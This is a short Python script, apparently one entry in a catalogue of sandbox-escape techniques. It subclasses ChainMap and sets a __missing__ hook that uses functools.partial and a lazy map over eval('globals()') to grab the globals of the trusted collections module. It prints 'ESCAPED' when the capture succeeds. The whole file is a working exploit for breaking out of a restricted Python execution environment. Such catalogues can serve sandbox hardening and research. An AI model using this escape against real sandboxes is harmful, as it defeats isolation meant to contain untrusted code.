# technique: ChainMap calls __missing__ of the subclass
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import collections
import functools
kept = []
peek = functools.partial(dict.fromkeys, map(kept.append, map(eval, ['globals()'])))


class Mine(collections.ChainMap):
    __missing__ = staticmethod(peek)


Mine()['x']
if kept[0]['__name__'] == 'collections':
    print('ESCAPED globals of collections')
